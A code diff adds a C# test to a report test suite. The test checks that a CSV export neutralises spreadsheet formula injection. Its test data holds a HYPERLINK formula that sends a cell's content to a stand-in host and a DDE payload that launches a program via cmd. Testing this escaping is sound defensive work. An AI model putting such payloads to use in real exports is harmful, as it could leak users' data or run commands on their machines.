@@ -71,6 +71,36 @@ public sealed class ReportTests(SqliteGatewayFixture gateway) : IClassFixture<Sq
         Assert.All(new[] { "Lai Châu", "Điện Biên", "Cao Bằng", "Cà Mau" }, name => Assert.Contains(name, nobody, StringComparison.Ordinal));
     }
 
+    [Fact]
+    public async Task Text_a_spreadsheet_would_run_as_a_formula_is_exported_as_inert_text()
+    {
+        const string cycleId = "2191-2192";
+        await new Scenario(_session).CreateCycleAsync(cycleId, courses: 1);
+        var board = await _session.BoardAsync();
+        await board.PutJsonAsync($"/api/cycles/{cycleId}/conclusions", new
+        {
+            conclusions = "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"mở\")",
+            recommendations = new[]
+            {
+                new { text = "+1+cmd|' /C calc'!A0", status = "Open" },
+                new { text = "@SUM(1+1)", status = "Open" },
+                new { text = "-2+3", status = "Open" },
+                new { text = "Gửi tài liệu = sớm hơn", status = "Open" },
+            },
+        });
+
+        var text = Encoding.UTF8.GetString((await board.GetByteArrayAsync($"/api/cycles/{cycleId}/report.csv"))[3..]);
+        var lines = text.Split("\r\n");
+
+        // Quoted (the formula holds commas and quotes) and behind an apostrophe, so the cell is text, not a formula.
+        Assert.Contains("\"'=HYPERLINK(\"\"http://example.invalid/?leak=\"\"&A1,\"\"mở\"\")\"", lines);
+        Assert.Contains("'+1+cmd|' /C calc'!A0,Chưa thực hiện,", lines);
+        Assert.Contains("'@SUM(1+1),Chưa thực hiện,", lines);
+        Assert.Contains("'-2+3,Chưa thực hiện,", lines);
+        Assert.Contains("Gửi tài liệu = sớm hơn,Chưa thực hiện,", lines); // an = inside the text is harmless and kept as typed
+        Assert.DoesNotContain(lines, line => line.Length > 0 && line[0] is '=' or '+' or '-' or '@');
+    }
+
     [Theory]
     [InlineData("GET", "/api/cycles/2011-2012/report.csv")]
     [InlineData("GET", "/api/cycles/2011-2012/report.html")]
